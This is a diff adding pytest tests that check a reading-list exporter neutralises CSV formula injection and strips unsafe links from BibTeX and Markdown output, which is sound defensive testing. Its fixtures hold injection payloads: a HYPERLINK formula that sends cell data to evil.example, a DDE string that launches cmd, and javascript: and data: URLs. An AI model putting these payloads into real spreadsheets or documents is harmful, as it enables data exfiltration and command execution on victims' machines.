@@ -88,3 +88,38 @@ def test_markdown_reading_list(corpus):
 @pytest.mark.parametrize("exporter", [to_csv, to_bibtex, to_markdown])
 def test_missing_columns_are_tolerated(exporter):
     assert exporter(pd.DataFrame([{"id": "p", "title": "Only a title"}]))
+
+
+HOSTILE = pd.DataFrame([
+    {"id": "h1", "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "abstract": "+cmd|' /C calc'!A0",
+     "code_url": "javascript:alert(1)", "url": "https://arxiv.org/abs/2401.00001", "authors": ["@SUM(1+1)*cmd"],
+     "published": "2024", "topics": ["-2+3"], "key_idea": "\t=1+1", "lessons": []},
+    {"id": "h2", "title": "  =1+1", "abstract": "\r=2", "code_url": None, "url": "data:text/html,<b>x</b>",
+     "authors": [], "published": None, "topics": [], "key_idea": "＝1+1", "lessons": []},
+    {"id": "h3", "title": "Braces {and} %comments #hash `code` <b>html</b> & more", "abstract": "plain, = later",
+     "code_url": None, "url": None, "authors": None, "published": None, "topics": [], "key_idea": None, "lessons": []},
+])
+
+
+def test_csv_never_holds_a_live_formula():
+    """OWASP's CSV-injection rule, checked on the parsed file: no cell a spreadsheet would evaluate
+    (first non-space character = + - @, tab, CR, or a full-width = + - @) and the text otherwise kept."""
+    back = pd.read_csv(io.StringIO(to_csv(HOSTILE)), keep_default_na=False, dtype=str)
+    for value in back.to_numpy().ravel():
+        assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), value
+    assert back["title"][0] == "'" + HOSTILE["title"][0] and back["title"][1] == "'  =1+1"
+    assert back["abstract"][1] == "'\r=2" and back["key_idea"][0] == "'\t=1+1" and back["key_idea"][1] == "'＝1+1"
+    assert back["authors"][0] == "'@SUM(1+1)*cmd" and back["topics"][0] == "'-2+3"
+    assert back["title"][2] == HOSTILE["title"][2] and back["abstract"][2] == "plain, = later"   # nothing else changes
+
+
+def test_bibtex_and_markdown_stay_valid_with_hostile_text():
+    library = bibtexparser.parse_string(to_bibtex(HOSTILE))
+    assert not library.failed_blocks and len(library.entries) == 3
+    third = library.entries[2]
+    assert unescape_latex(third["title"]) == "Braces {and} %comments #hash `code` <b>html</b> & more"
+    text = " ".join(str(f.value) for e in library.entries for f in e.fields)
+    assert "javascript" not in text and "data:" not in text and "arxiv.org/abs/2401.00001" in text
+    md = to_markdown(HOSTILE)
+    assert "javascript:" not in md and "data:text" not in md and "<b>" not in md
+    assert r"\`code\` \<b\>html\</b\>" in md and "**[" in md.splitlines()[4]  # only the https URL is a link
